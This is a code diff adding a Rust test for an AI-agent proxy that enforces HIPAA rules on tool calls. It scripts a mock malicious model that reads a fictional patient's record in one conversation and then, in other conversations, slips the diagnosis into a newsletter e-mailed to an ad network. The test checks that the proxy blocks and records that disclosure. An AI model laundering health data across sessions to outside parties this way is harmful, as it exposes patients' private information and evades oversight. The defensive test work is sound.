@@ -461,3 +461,340 @@ fn the_proxy_refuses_a_non_loopback_address() {
         .unwrap_err();
     assert!(e.to_string().contains("loopback"), "{e}");
 }
+
+/// A clinic's tools: a patient record (health, about a third party) and e-mail, whose
+/// body the model composes.
+const CLINIC: &str = r#"
+format = "knox-toolkit/1"
+
+[runtime]
+syscalls = ["read", "write", "exit_group"]
+paths = []
+limits = { max_processes = 16, max_file_bytes = 1048576, max_memory_bytes = 268435456, cpu_seconds = 5, max_open_files = 64 }
+
+[[servers]]
+name = "clinic"
+remote = true
+needs = { profile = "network-client", endpoints = [{ host = "ehr.clinic.example", port = 443 }] }
+
+[[servers.tools]]
+name = "clinic.get_patient"
+effect = "read"
+returns = { info_types = ["health", "identity"], subject = "third_party", source = "user" }
+inputSchema = { type = "object", properties = { id = { type = "string" } }, required = ["id"], additionalProperties = false }
+
+[[servers.tools]]
+name = "clinic.send_email"
+effect = "disclose"
+discloses = { recipient = ["to"], content = ["body"] }
+sinks = ["to"]
+prose = ["body"]
+inputSchema = { type = "object", properties = { to = { type = "string" }, body = { type = "string", maxLength = 400 } }, required = ["to", "body"], additionalProperties = false }
+"#;
+
+/// Plans a conversation by what its user asks: a patient lookup, or the newsletter to
+/// the ad network (its body left to the model: `prose`).
+struct ByPrompt {
+    lookup: knox_gateway::openai::plan::PlanFile,
+    newsletter: knox_gateway::openai::plan::PlanFile,
+}
+
+impl knox_agent::Planner for ByPrompt {
+    fn plan(
+        &self,
+        prompt: &knox_agent::Prompt,
+        manifest: &knox_policy::ToolkitManifest,
+        regulations: &knox_agent::Regulations,
+        stop: &knox_types::apm::StopPolicy,
+    ) -> Result<knox_agent::Plan, knox_agent::PlanError> {
+        let p = if prompt.tasks.join(" ").contains("newsletter") {
+            &self.newsletter
+        } else {
+            &self.lookup
+        };
+        p.plan(prompt, manifest, regulations, stop)
+    }
+
+    fn model(&self) -> knox_types::bundle::ModelInfo {
+        self.lookup.model()
+    }
+}
+
+/// A malicious model with a memory across conversations: in a lookup conversation it
+/// reads the record and remembers it; in a newsletter conversation it waits until it
+/// has heard a record, then e-mails it to the ad network inside the newsletter's body.
+fn remembering_upstream() -> (SocketAddr, Arc<AtomicBool>) {
+    let stop = Arc::new(AtomicBool::new(false));
+    let heard: Arc<std::sync::Mutex<Option<String>>> = Arc::default();
+    let (tx, rx) = std::sync::mpsc::channel();
+    let s = stop.clone();
+    std::thread::spawn(move || {
+        let rt = tokio::runtime::Builder::new_multi_thread()
+            .worker_threads(2)
+            .enable_all()
+            .build()
+            .unwrap();
+        rt.block_on(async move {
+            let app = axum::Router::new().route(
+                "/v1/chat/completions",
+                axum::routing::post(move |body: axum::body::Bytes| {
+                    let heard = heard.clone();
+                    async move {
+                        let req: Value = serde_json::from_slice(&body).unwrap_or_default();
+                        let messages = req["messages"].as_array().cloned().unwrap_or_default();
+                        let tools: Vec<String> = messages
+                            .iter()
+                            .filter(|m| m["role"] == "tool")
+                            .filter_map(|m| m["content"].as_str().map(str::to_owned))
+                            .collect();
+                        if let Some(record) = tools.iter().find(|t| t.contains("diagnosis")) {
+                            *heard.lock().unwrap() = Some(record.clone());
+                        }
+                        let asks = messages
+                            .iter()
+                            .filter(|m| m["role"] == "user")
+                            .filter_map(|m| m["content"].as_str())
+                            .collect::<Vec<_>>()
+                            .join(" ");
+                        let call = |name: &str, args: Value| {
+                            json!([{"id": "call_1", "type": "function", "function": {
+                                "name": name, "arguments": args.to_string()}}])
+                        };
+                        let remembered = heard.lock().unwrap().clone();
+                        let message = match (asks.contains("newsletter"), tools.is_empty()) {
+                            (false, true) => json!({"role": "assistant", "content": null,
+                                "tool_calls": call("clinic__get_patient", json!({"id": "p-17"}))}),
+                            (true, true) if remembered.is_some() => {
+                                let record: Value =
+                                    serde_json::from_str(&remembered.unwrap()).unwrap_or_default();
+                                let body = format!(
+                                    "This month's offers. PS: {} has {}.",
+                                    record["name"].as_str().unwrap_or_default(),
+                                    record["diagnosis"].as_str().unwrap_or_default()
+                                );
+                                json!({"role": "assistant", "content": null,
+                                    "tool_calls": call("clinic__send_email",
+                                        json!({"to": "offers@adreach.example", "body": body}))})
+                            }
+                            _ => json!({"role": "assistant", "content": "Working on it."}),
+                        };
+                        let finish = if message["tool_calls"].is_null() {
+                            "stop"
+                        } else {
+                            "tool_calls"
+                        };
+                        json!({"id": "c", "object": "chat.completion", "created": 1, "model": "remembering",
+                            "choices": [{"index": 0, "message": message, "finish_reason": finish}]})
+                        .to_string()
+                    }
+                }),
+            );
+            let l = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+            tx.send(l.local_addr().unwrap()).unwrap();
+            axum::serve(l, app)
+                .with_graceful_shutdown(async move {
+                    while !s.load(Ordering::Acquire) {
+                        tokio::time::sleep(Duration::from_millis(50)).await;
+                    }
+                })
+                .await
+                .unwrap();
+        });
+    });
+    (rx.recv().unwrap(), stop)
+}
+
+/// Labels per model instance (issue 15, cross-agent laundering through the proxy): the
+/// upstream reads a patient record in one conversation (allowed: its operator is a
+/// business associate under an agreement) and then, in other conversations — one
+/// opened before that read, one after — composes the record into a newsletter to an
+/// ad network. Each conversation is its own run, so before, the newsletter's content
+/// reached no label there and the disclosure passed. Now each of them records what the
+/// upstream heard as a `heard` node before it mediates anything more, the composed
+/// body carries its labels, and HIPAA decides it non-compliant: withheld, recorded
+/// blocked with the deciding policy; every bundle verifies `complete` with its
+/// verdicts recomputed.
+#[test]
+fn what_the_upstream_heard_in_one_conversation_labels_what_it_composes_in_another() {
+    use knox_types::regulation::{DirectoryEntry, RegulationContext, TaskContext};
+    let dir = tempfile::tempdir().unwrap();
+    let (up, up_stop) = remembering_upstream();
+    let upstream = format!("http://{up}/v1");
+    let m = knox_policy::ToolkitManifest::from_toolkit_text(CLINIC).unwrap();
+    let entry = |address: &str, role: &str, org: &str, baa: bool| DirectoryEntry {
+        addresses: vec![address.into()],
+        domains: vec![],
+        role: role.into(),
+        organisation: org.into(),
+        jurisdiction: "US".into(),
+        baa,
+        safeguards: baa,
+    };
+    let context = RegulationContext {
+        directory: vec![
+            entry("records@clinic.example", "covered_entity", "Clinic", false),
+            entry(
+                "offers@adreach.example",
+                "marketing_vendor",
+                "AdReach",
+                false,
+            ),
+            entry(&upstream, "business_associate", "Inference Co", true),
+        ],
+        consents: vec![],
+        tasks: std::collections::BTreeMap::new(),
+        default_task: Some(TaskContext {
+            sender: "records@clinic.example".into(),
+            purpose: "treatment".into(),
+        }),
+    };
+    let norms = knox_regulation::Norms::embedded().unwrap();
+    let setup = knox_engine::RegulationSetup::new(["HIPAA"], norms, context).unwrap();
+    let norms = Arc::clone(&setup.norms);
+    let plan = |calls: Value| {
+        knox_gateway::openai::plan::PlanFile::new(json!({ "calls": calls }), &m, 8).unwrap()
+    };
+    let planner = knox_gateway::openai::plan::Followed::new(
+        Box::new(ByPrompt {
+            lookup: plan(json!([{"tool": "clinic.get_patient", "params": {"id": "p-17"}}])),
+            newsletter: plan(json!([{"tool": "clinic.send_email",
+                "params": {"to": "offers@adreach.example", "body": "This month's offers."}}])),
+        }),
+        knox_types::apm::TrajectoryMode::tolerant(),
+    );
+    let session = Arc::new(
+        knox_engine::Session::builder()
+            .platform(knox_engine::Simulated)
+            .manifest(m.clone())
+            .planner(planner)
+            .regulations(setup)
+            .output(dir.path())
+            .run_prefix("conv")
+            .build()
+            .unwrap(),
+    );
+    let config = ProxyConfig {
+        upstream: upstream.clone(),
+        idle: Duration::from_secs(60),
+        out: Some(dir.path().to_owned()),
+        ..ProxyConfig::default()
+    };
+    let p = start(Proxy::new(session, &config));
+    let ask = |conv: &str, messages: &[Value]| {
+        let (status, run, text) = post(
+            p.addr,
+            conv,
+            &json!({"model": "remembering", "messages": messages}),
+        );
+        assert_eq!(status, 200, "{text}");
+        (run.unwrap(), serde_json::from_str::<Value>(&text).unwrap())
+    };
+    let first = json!({"role": "user", "content": "Send our newsletter to AdReach."});
+    // Opened before the upstream hears the record: the model waits.
+    let (early_run, v) = ask("early", std::slice::from_ref(&first));
+    assert_eq!(
+        v["choices"][0]["message"]["content"], "Working on it.",
+        "{v}"
+    );
+    // The lookup: the read is released, its result goes back to the upstream.
+    let lookup = json!({"role": "user", "content": "Look up patient p-17."});
+    let (lookup_run, v) = ask("lookup", std::slice::from_ref(&lookup));
+    let call = v["choices"][0]["message"]["tool_calls"][0].clone();
+    assert_eq!(call["function"]["name"], "clinic__get_patient", "{v}");
+    let record =
+        json!({"name": "John Doe", "diagnosis": "Type 2 diabetes mellitus", "ssn": "078-05-1120"});
+    let (_, v) = ask(
+        "lookup",
+        &[
+            lookup,
+            json!({"role": "assistant", "content": null, "tool_calls": [call.clone()]}),
+            json!({"role": "tool", "tool_call_id": call["id"], "content": record.to_string()}),
+        ],
+    );
+    assert_eq!(
+        v["choices"][0]["message"]["content"], "Working on it.",
+        "{v}"
+    );
+    // The early conversation goes on; a late one opens: the model composes the record
+    // into the newsletter in both.
+    let (_, v_early) = ask(
+        "early",
+        &[
+            first.clone(),
+            json!({"role": "assistant", "content": "Working on it."}),
+            json!({"role": "user", "content": "Go on."}),
+        ],
+    );
+    let (late_run, v_late) = ask("late", std::slice::from_ref(&first));
+    for v in [&v_early, &v_late] {
+        let message = &v["choices"][0]["message"];
+        assert!(
+            message["tool_calls"].is_null(),
+            "the newsletter reached the client: {v}"
+        );
+        let said = message["content"].as_str().unwrap();
+        assert!(
+            said.contains("clinic__send_email") && said.contains("(regulation)"),
+            "{said}"
+        );
+    }
+    p.stop.store(true, Ordering::Release);
+    let sealed = p.thread.join().unwrap();
+    up_stop.store(true, Ordering::Release);
+    assert_eq!(sealed.len(), 3);
+    for s in &sealed {
+        let path = s.bundle.as_ref().unwrap().as_ref().unwrap();
+        let bundle: knox_types::bundle::Bundle =
+            serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap();
+        let report = knox_verify::verify_bundle(
+            &bundle,
+            &m,
+            knox_verify::Options {
+                norms: Some(&norms),
+                ..knox_verify::Options::DANGEROUS_SIMULATED
+            },
+        );
+        assert_eq!(
+            report.outcome,
+            knox_verify::Outcome::Complete,
+            "{}: {report:?}",
+            s.run_id
+        );
+        let v = serde_json::to_value(&bundle).unwrap();
+        let nodes = v["nodes"].as_array().unwrap();
+        let heard: Vec<&Value> = nodes.iter().filter(|n| n["kind"] == "heard").collect();
+        if s.run_id == lookup_run {
+            assert!(heard.is_empty(), "its own read is no heard node");
+            continue;
+        }
+        assert!(
+            s.run_id == early_run || s.run_id == late_run,
+            "{}",
+            s.run_id
+        );
+        // One heard node naming the lookup's record, before the blocked newsletter.
+        assert_eq!(heard.len(), 1, "{heard:?}");
+        assert_eq!(heard[0]["payload"]["run"], lookup_run.as_str());
+        assert_eq!(heard[0]["payload"]["tool"], "clinic.get_patient");
+        assert_eq!(heard[0]["payload"]["endpoint"], upstream.as_str());
+        let blocked = nodes
+            .iter()
+            .find(|n| n["kind"] == "tool_call" && n["allowed"] == false)
+            .unwrap();
+        assert!(blocked["seq"].as_u64() > heard[0]["seq"].as_u64());
+        let check = nodes
+            .iter()
+            .find(|n| n["kind"] == "check" && n["payload"]["guard"] == "regulation")
+            .unwrap();
+        let d = &check["payload"]["detail"];
+        assert_eq!(d["verdict"], "non_compliant", "{d}");
+        assert_eq!(d["policies"][0], "hipaa-164.502-a-not-permitted", "{d}");
+        assert!(
+            d["flow"]["sources"]
+                .as_array()
+                .unwrap()
+                .contains(&json!(heard[0]["seq"].to_string())),
+            "{d}"
+        );
+    }
+}
